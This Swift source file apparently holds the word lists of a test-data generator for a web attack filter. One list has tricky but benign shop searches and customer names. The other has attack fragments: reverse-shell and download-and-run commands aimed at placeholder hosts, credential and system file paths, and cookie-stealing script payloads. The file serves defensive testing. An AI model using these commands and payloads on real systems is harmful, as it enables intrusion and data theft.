/// The words of an invented shop and its customers.
///
/// Some look like attacks to a simple filter on purpose: names with apostrophes, `--` and `<3` in
/// searches, "select", "union" and "script" as words of a language.
enum ShopWords {
    static let categories = bytes(
        "shoes", "jackets", "kitchen", "garden", "books", "toys", "lamps", "bikes", "music",
        "office", "outdoor", "sale", "new", "gifts", "tools", "baby")
    static let adjectives = bytes(
        "red", "blue", "soft", "small", "vintage", "classic", "light", "warm", "solid", "smart",
        "wooden", "steel", "organic", "mini", "double", "grand")
    static let products = bytes(
        "sneaker", "parka", "kettle", "lamp", "tent", "notebook", "guitar", "helmet", "teapot",
        "chair", "blanket", "backpack", "puzzle", "knife-set", "drill", "stroller", "mug", "desk")
    static let searches = bytes(
        "running shoes", "rain jacket", "café crème", "Weihnachtsgeschenk für Oma", "niños botas",
        "tea pot 1.5 l", "lampe de chevet", "наушники", "冬 ジャケット", "sofá cama", "Käsemesser",
        "men's shoes", "rock'n'roll t-shirt", "O'Neill jacket", "size 42 -- wide fit",
        "union jack mug", "select comfort pillow", "drop earrings", "script font book",
        "table and chairs", "i <3 cats", "mugs under 20$", "c++ primer", "usb-c -> hdmi",
        "5' ladder",
        "2x4 wood; untreated", "tom & jerry", "100% cotton", "what is a duvet?", "l'oréal",
        "d'Orsay",
        "gift for her (under 50)", "\"harry potter\" box set", "and or not logic game", "größe 44",
        "where to order from", "update kit ps5", "exec chair", "cat food", "pasta maker",
        "wifi plug",
        "åka skridskor", "żółta kurtka", "çanta", "수납 상자", "帽子", "كوب قهوة", "étagère 80cm")
    static let firstNames = bytes(
        "Anna", "Liam", "Zoë", "José", "Mary-Jane", "Siobhán", "Jürgen", "Олена", "Mei", "Ahmed",
        "François", "Ingrid", "Giulia", "Tom", "Sarah", "D'Arcy", "Noor", "Paweł", "Kofi", "Aoife")
    static let lastNames = bytes(
        "O'Brien", "D'Angelo", "Müller", "Smith", "García", "Nguyễn", "van der Berg", "O'Neill",
        "Kowalska", "Johnson", "Lefèvre", "Шевченко", "Tanaka", "Al-Sayed", "Østergård", "Rossi",
        "Brown", "McDonald", "Union", "Droppert")
    static let mailboxes = bytes(
        "anna.", "liam", "jobrien", "garcia+shop", "mei_", "info", "t.brown", "orders.", "zoe",
        "s-k")
    static let mailHosts = bytes(
        "example.com", "mail.example.org", "post.example.de", "example.co.uk", "example.fr")
    static let cities = bytes(
        "Berlin", "São Paulo", "Kraków", "L'Aquila", "Dublin", "New York", "Málaga", "København",
        "Coeur d'Alene", "Île-de-France", "東京", "Київ", "Stoke-on-Trent", "Zürich")
    static let streets = bytes(
        "Main Street", "Rue de l'Église", "Hauptstraße", "Calle Mayor", "King's Road", "Via Roma",
        "Martin Luther King Jr. Blvd", "Apt. 4B, Elm St", "Ulica Długa", "P.O. Box",
        "c/o Lee, Oak Ave")
    static let orders = bytes(
        "price", "-price", "newest", "rating", "relevance", "name", "popular", "price_desc")
    static let languages = bytes(
        "en", "de", "fr", "es", "pl", "uk", "ja", "pt-BR", "en-GB", "zh-CN")
    static let images = bytes(
        "hero", "banner", "thumb", "front", "side", "detail", "zoom", "swatch", "logo", "sprite")
    static let coupons = bytes(
        "WELCOME10", "SPRING-26", "FREE_SHIP", "2FOR1", "LOYAL5%", "STAFF", "XMAS--26", "NEW'26")
    static let sizes = bytes("XS", "S", "M", "L", "XL", "42", "43 1/3", "9\"", "120x60", "0.5l")
    static let colours = bytes(
        "black", "white", "navy", "grün", "rouge", "grey/pink", "off-white", "azul", "petrol",
        "gold")
    static let reviews = bytes(
        "Great quality, fast delivery!", "It's ok, but the zip broke after 2 days :(",
        "Très joli <3",
        "Don't buy this -- the colour is wrong; I'd return it.", "5/5 would order again",
        "My son's favourite. We love it & so does the cat...", "Passt perfekt, größer als gedacht",
        "Is it 20\" or 22\"? The table says 20 = 50 cm, that can't be right",
        "I had to select a larger size and drop the old one from my order",
        "Value for money: 10/10 (bought 2, 1 as a gift)", "Not bad; not great either #meh",
        "Script on the box is unreadable, otherwise fine", "muy bueno, ¡lo recomiendo!",
        "とても良いです", "See https://www.example.com/size-guide?lang=en for the sizes", "good")

    static func bytes(_ texts: String...) -> [[UInt8]] { texts.map { Array($0.utf8) } }
}

/// The words that attacks of all families are made from.
enum AttackWords {
    static let tables = ShopWords.bytes(
        "users", "customers", "admin", "orders", "information_schema.tables", "mysql.user",
        "accounts",
        "pg_shadow", "sysobjects", "wp_users", "dual", "payment_cards", "sqlite_master", "sessions")
    static let columns = ShopWords.bytes(
        "password", "username", "email", "card_number", "table_name", "pwd_hash", "id", "version()",
        "user()", "@@version", "database()", "token", "salt", "NULL", "column_name")
    static let commands = ShopWords.bytes(
        "id", "whoami", "cat /etc/passwd", "uname -a", "ls -la /", "ping -c 3 127.0.0.1",
        "netstat -an",
        "wget http://198.51.100.7/x.sh -O /tmp/x", "curl http://198.51.100.7/a|sh", "sleep 9",
        "dir c:\\",
        "nc -e /bin/sh 198.51.100.7 4444", "type C:\\boot.ini", "ps aux", "ifconfig", "env",
        "bash -i >& /dev/tcp/198.51.100.7/9001 0>&1", "powershell -enc SQBFAFgA",
        "touch /tmp/pwned",
        "echo vulnerable", "rm -rf /tmp/*", "perl -e 'print 42'", "python3 -c 'import os'")
    static let files = ShopWords.bytes(
        "etc/passwd", "etc/shadow", "etc/hosts", "windows/win.ini", "boot.ini", "proc/self/environ",
        "var/log/apache2/access.log", "root/.ssh/id_rsa", "WEB-INF/web.xml",
        "app/config/parameters.yml",
        "windows/system32/drivers/etc/hosts", "home/deploy/.bash_history", ".env", "wp-config.php",
        "proc/self/cmdline", "etc/nginx/nginx.conf")
    static let hosts = ShopWords.bytes(
        "evil.example", "198.51.100.7", "attacker.example.net", "203.0.113.66:8080",
        "x.oob.example",
        "collab.example.org", "192.0.2.13")
    static let functions = ShopWords.bytes(
        "alert(1)", "alert(document.cookie)", "confirm`1`", "prompt(9)",
        "eval(atob('YWxlcnQoMSk='))",
        "fetch('//evil.example/'+document.cookie)", "alert(String.fromCharCode(88,83,83))",
        "window.location='http://evil.example'", "top['al'+'ert'](1)", "confirm(1)",
        "document.write('<img src=x>')", "new Image().src='//evil.example/c?'+document.cookie")
    static let agents = ShopWords.bytes(
        "sqlmap/1.7.2#stable (https://sqlmap.org)", "Mozilla/5.00 (Nikto/2.5.0)",
        "python-requests/2.31.0",
        "Wget/1.21.3", "curl/7.88.1", "masscan/1.3", "Mozilla/5.0 zgrab/0.x", "Go-http-client/1.1",
        "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)", "-", "gobuster/3.6",
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 Chrome/126.0 Safari/537.36")
}
